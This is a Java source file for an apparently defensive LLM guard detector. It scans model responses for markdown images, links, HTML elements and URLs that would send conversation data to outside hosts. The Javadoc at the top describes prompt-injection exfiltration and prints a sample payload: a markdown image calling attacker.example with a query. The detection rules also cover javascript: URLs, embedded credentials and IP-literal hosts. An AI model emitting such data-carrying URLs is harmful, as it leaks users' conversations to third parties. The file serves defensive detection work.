package dev.llmguard.detect.exfiltration;

import dev.llmguard.GuardConfigurationException;
import dev.llmguard.detect.exfiltration.UrlScanner.Candidate;
import dev.llmguard.spi.Category;
import dev.llmguard.spi.Confidence;
import dev.llmguard.spi.Detector;
import dev.llmguard.spi.DetectorConfig;
import dev.llmguard.spi.Finding;
import dev.llmguard.spi.Phase;
import dev.llmguard.spi.ScanInput;
import dev.llmguard.spi.Span;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.atomic.AtomicReferenceArray;

/**
 * Notices answers that would send data to a third party when they are rendered, the classic way to
 * exfiltrate a conversation after a prompt injection: {@code
 * ![](https://attacker.example/log?q=…)}.
 *
 * <p>It reads markdown images and links (inline and reference-style), HTML elements that load a
 * source ({@code img}, {@code iframe}, {@code script} …) or link ({@code a}, {@code form}),
 * autolinks and bare URLs, and reports a URL when it
 *
 * <ul>
 *   <li>carries data (long, percent- or form-encoded, base64- or hex-looking query values or path
 *       segments) to a host outside {@code allowed-hosts};
 *   <li>is a {@code javascript:}/{@code vbscript:} URL (also when hidden behind character
 *       references) or a {@code data:} URL;
 *   <li>contains credentials ({@code user:pass@host}) or a user part;
 *   <li>points to an IP literal (dotted, integer, hex or IPv6) or a punycode ({@code xn--}) host
 *       outside {@code allowed-hosts}.
 * </ul>
 *
 * Images and other elements that the renderer fetches by itself score highest (up to 0.95 for data
 * sent to an unknown host); links, which need a click, score lower. The weights of all reasons of
 * one URL are combined by noisy-or. Each finding's span covers the URL.
 *
 * <p><b>Configuration</b> ({@code llmguard.detector.exfiltration.*}):
 *
 * <ul>
 *   <li>{@code allowed-hosts} — comma-separated host names that may receive data; each also allows
 *       its subdomains ({@code example.com} allows {@code cdn.example.com}); default none;
 *   <li>{@code long-value} — a query value at least this long counts as data, default {@value
 *       #DEFAULT_LONG_VALUE};
 *   <li>{@code max-findings} — report at most this many URLs per text, default {@value
 *       #DEFAULT_MAX_FINDINGS}.
 * </ul>
 *
 * <p>Thread-safe and stateless after creation; runs in the {@link Phase#RESPONSE} phase. The scan
 * is linear in the length of the text and allocates nothing for text without brackets, {@code <} or
 * {@code ://}.
 */
public final class ExfiltrationDetector implements Detector {

  /** The detector id and configuration name. */
  public static final String ID = "exfiltration";

  public static final int DEFAULT_LONG_VALUE = 24;
  public static final int DEFAULT_MAX_FINDINGS = 50;

  private final UrlAnalysis analysis;
  private final int maxFindings;

  private ExfiltrationDetector(List<String> allowedHosts, int longValue, int maxFindings) {
    this.analysis = new UrlAnalysis(allowedHosts, longValue);
    this.maxFindings = maxFindings;
  }

  /**
   * Creates the detector from its configuration.
   *
   * @throws GuardConfigurationException when a key holds a malformed or out-of-range value
   */
  public static ExfiltrationDetector create(DetectorConfig config) {
    List<String> hosts = new ArrayList<>();
    for (String h : config.getList("allowed-hosts")) {
      String host = h.toLowerCase(Locale.ROOT);
      if (host.startsWith("*.")) {
        host = host.substring(2);
      } else if (host.startsWith(".")) {
        host = host.substring(1);
      }
      if (host.isEmpty() || host.contains("/") || host.contains(" ")) {
        throw new GuardConfigurationException(
            config.fullKey("allowed-hosts")
                + " must list host names such as example.com but contained '"
                + h
                + "'");
      }
      hosts.add(host);
    }
    int longValue = config.getInt("long-value", DEFAULT_LONG_VALUE);
    if (longValue < 8) {
      throw new GuardConfigurationException(
          config.fullKey("long-value") + " must be at least 8 but was " + longValue);
    }
    int maxFindings = config.getInt("max-findings", DEFAULT_MAX_FINDINGS);
    if (maxFindings < 1) {
      throw new GuardConfigurationException(
          config.fullKey("max-findings") + " must be at least 1 but was " + maxFindings);
    }
    return new ExfiltrationDetector(hosts, longValue, maxFindings);
  }

  @Override
  public String id() {
    return ID;
  }

  private static final Set<Phase> PHASES = Set.of(Phase.RESPONSE);

  @Override
  public Set<Phase> phases() {
    return PHASES;
  }

  @Override
  public List<Finding> detect(ScanInput input) {
    String text = input.text();
    List<Candidate> urls = UrlScanner.scan(text);
    if (urls.isEmpty()) {
      return List.of();
    }
    List<Finding> findings = null;
    for (Candidate url : urls) {
      UrlAnalysis.Result r = analysis.analyse(text, url.start(), url.end(), url.kind());
      if (r.signals() == 0) {
        continue;
      }
      Finding f = toFinding(text, url, r);
      if (f == null) {
        continue;
      }
      if (findings == null) {
        findings = new ArrayList<>(4);
      }
      findings.add(f);
      if (findings.size() >= maxFindings) {
        break;
      }
    }
    if (findings == null) {
      return List.of();
    }
    return findings.size() == 1
        ? List.of(findings.get(0))
        : findings.size() == 2 ? List.of(findings.get(0), findings.get(1)) : List.copyOf(findings);
  }

  /**
   * What a finding says for one kind of URL and one set of signals, everything but the host: worked
   * out once per combination (six kinds and 2^11 signal sets at most, so the table is bounded), so
   * that a text with many URLs pays for its findings and not for their strings.
   */
  private record Summary(
      double score, Confidence confidence, String message, Map<String, String> metadata) {}

  private static final int SIGNAL_SETS = 1 << Signal.values().length;

  /**
   * Filled lazily; a slot written twice by racing threads gets equal summaries, and {@link
   * AtomicReferenceArray} publishes each one whole.
   */
  private static final AtomicReferenceArray<Summary> SUMMARIES =
      new AtomicReferenceArray<>(UrlKind.values().length * SIGNAL_SETS);

  private static Summary summary(UrlKind kind, int signals) {
    int slot = kind.ordinal() * SIGNAL_SETS + signals;
    Summary s = SUMMARIES.get(slot);
    if (s == null) {
      s = summarise(kind, signals);
      SUMMARIES.set(slot, s);
    }
    return s;
  }

  /** The noisy-or score, the strongest signal's message and the metadata, or null for no signal. */
  private static Summary summarise(UrlKind kind, int signals) {
    double none = 1.0;
    Signal strongest = null;
    StringBuilder ids = new StringBuilder();
    for (Signal s : Signal.values()) {
      if ((signals & s.bit()) == 0) {
        continue;
      }
      double w = s.weight(kind);
      if (w <= 0.0) {
        continue;
      }
      none *= 1.0 - w;
      if (strongest == null || w > strongest.weight(kind)) {
        strongest = s;
      }
      ids.append(ids.length() == 0 ? "" : ",").append(s.id());
    }
    if (strongest == null) {
      return NO_FINDING;
    }
    double score = Math.min(1.0, Math.round((1.0 - none) * 1000) / 1000.0);
    return new Summary(
        score,
        score >= 0.85 ? Confidence.HIGH : score >= 0.6 ? Confidence.MEDIUM : Confidence.LOW,
        kind.label() + " " + strongest.description(),
        Map.of("kind", kind.id(), "signals", ids.toString()));
  }

  /** The summary of signal sets whose every signal weighs nothing for the URL's kind. */
  private static final Summary NO_FINDING = new Summary(0, Confidence.LOW, "", Map.of());

  private static Finding toFinding(String text, Candidate url, UrlAnalysis.Result r) {
    Summary s = summary(url.kind(), r.signals());
    if (s == NO_FINDING) {
      return null;
    }
    String message = s.message();
    Map<String, String> metadata = s.metadata();
    if (r.hostStart() >= 0) {
      String host = text.substring(r.hostStart(), r.hostEnd()).toLowerCase(Locale.ROOT);
      message = message + " to " + host;
      metadata =
          Map.of("kind", metadata.get("kind"), "signals", metadata.get("signals"), "host", host);
    }
    return new Finding(
        ID,
        Category.IMPROPER_OUTPUT,
        s.score(),
        s.confidence(),
        List.of(new Span(url.start(), url.end())),
        message,
        metadata);
  }
}
